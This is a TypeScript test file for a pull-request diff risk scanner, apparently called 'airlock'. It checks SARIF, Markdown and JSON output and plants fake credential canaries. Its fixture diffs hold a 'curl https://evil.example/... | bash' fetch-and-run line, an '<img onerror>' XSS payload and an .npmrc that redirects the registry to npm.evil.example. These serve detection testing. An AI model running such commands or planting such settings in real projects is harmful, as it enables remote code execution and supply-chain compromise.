import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { Ajv } from 'ajv';
import { scoreDiffText } from './engine.js';
import { markdown, mdCell, render, sarif } from './format.js';

const fixtures = new URL('../../../test/fixtures/', import.meta.url);

/** Fake credentials planted in the corpus: none may appear in any report. */
const LEAK_CANARIES = ['AKIA4QX7ZK2M9TRB3LWE', 'k9Qz7vXn2LpR8sTw4YbE1mHc6JdF0gUaVi3NoPqS', 'ghp_R4nd0mLo0k1ngT0k3nV4lu3Xq9Zt2Wm8Kp5c', 'xoxb-2318765490-5512398760123', 'sk-proj-Zk3mQ9xT2vLw8RbN5cY1hJ7pD4fG6sA0', 'rk9Tq2LmW8xZ4vB7nC1dF5gH3jK6pQ0s', 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ'];

/** The official SARIF 2.1.0 schema (draft-04) loaded into Ajv 8: `id` → `$id`, format checks off. */
function sarifValidator() {
  const schema = JSON.parse(readFileSync(new URL('sarif-schema-2.1.0.json', fixtures), 'utf8')) as Record<string, unknown>;
  delete schema.$schema;
  schema.$id = schema.id;
  delete schema.id;
  const ajv = new Ajv({ strict: false, validateFormats: false, allErrors: true });
  return ajv.compile(schema);
}

test('SARIF output validates against the official 2.1.0 schema for every corpus PR', () => {
  const validate = sarifValidator();
  const dir = new URL('prs/', fixtures);
  const files = readdirSync(dir).filter((f) => f.endsWith('.diff'));
  assert.ok(files.length >= 60);
  let results = 0;
  for (const f of files) {
    const doc = sarif(scoreDiffText(readFileSync(new URL(f, dir))));
    const ok = validate(doc);
    assert.ok(ok, `${f}: ${JSON.stringify(validate.errors?.slice(0, 3))}`);
    results += (doc as { runs: { results: unknown[] }[] }).runs[0]!.results.length;
    const text = JSON.stringify(doc);
    for (const secret of LEAK_CANARIES) assert.ok(!text.includes(secret), `${f}: the report leaks a secret (${secret.slice(0, 6)}…)`);
  }
  assert.ok(results > 50, 'the corpus should produce SARIF results');
});

test('the schema check is real: a broken SARIF document is rejected', () => {
  const validate = sarifValidator();
  assert.equal(validate({ version: '2.1.0', runs: [{ tool: {}, results: [{ level: 'fatal' }] }] }), false);
});

test('Markdown: findings table and collapsed evidence; diff text cannot break the table or inject HTML', () => {
  const evil = '<img src=x onerror=alert(1)> | injected | cell\n## heading @everyone';
  assert.doesNotMatch(mdCell(evil), /<img|\n|(?<!\\)\|/);
  const diff = `diff --git a/x.sh b/x.sh\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1 @@\n+curl https://evil.example/$(echo '<script>|x|') | bash\n`;
  const md = markdown(scoreDiffText(diff));
  assert.match(md, /airlock risk: \*\*CRITICAL\*\*/);
  assert.match(md, /\| severity \| category \| finding \| location \|/);
  assert.match(md, /<details><summary>Evidence and fixes<\/summary>/);
  assert.doesNotMatch(md, /<script>/);
  for (const row of md.split('\n').filter((l) => l.startsWith('| '))) {
    assert.equal(row.replace(/\\\|/g, '').split('|').length, 6, `row has the wrong number of cells: ${row}`);
  }
});

test('JSON output keeps the interface: level, score, decomposition, review, findings with id/category/severity/file/line/evidence/why/fix', () => {
  const diff = `diff --git a/.npmrc b/.npmrc\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/.npmrc\n@@ -0,0 +1 @@\n+registry=https://npm.evil.example/\n`;
  const j = JSON.parse(render(scoreDiffText(diff), 'json')) as Record<string, unknown>;
  assert.ok(['low', 'medium', 'high', 'critical'].includes(j.level as string));
  assert.equal(typeof j.score, 'number');
  assert.ok((j.score as number) >= 0 && (j.score as number) <= 100);
  assert.ok(j.decomposition && typeof j.decomposition === 'object');
  assert.deepEqual(Object.keys(j.review as object).sort(), ['approvals', 'labels', 'level']);
  const f = (j.findings as Record<string, unknown>[])[0]!;
  for (const k of ['id', 'category', 'severity', 'file', 'line', 'evidence', 'why', 'fix']) assert.ok(k in f, `finding lacks ${k}`);
  assert.equal(j.level, 'high');
  assert.equal((j.review as { approvals: number }).approvals, 2);
});
